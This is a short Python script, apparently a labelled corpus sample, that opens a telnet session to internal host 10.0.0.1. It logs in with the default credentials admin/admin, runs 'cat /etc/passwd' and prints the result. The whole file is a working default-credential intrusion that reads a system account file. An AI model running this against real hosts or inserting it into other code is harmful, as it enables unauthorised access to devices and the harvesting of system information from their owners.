# corpus: telnetlib session to an internal host to run commands with default credentials
import telnetlib

tn = telnetlib.Telnet("10.0.0.1", 23, timeout=5)
tn.read_until(b"login: ")
tn.write(b"admin\n")
tn.read_until(b"Password: ")
tn.write(b"admin\n")
tn.write(b"cat /etc/passwd; exit\n")
print(tn.read_all().decode())
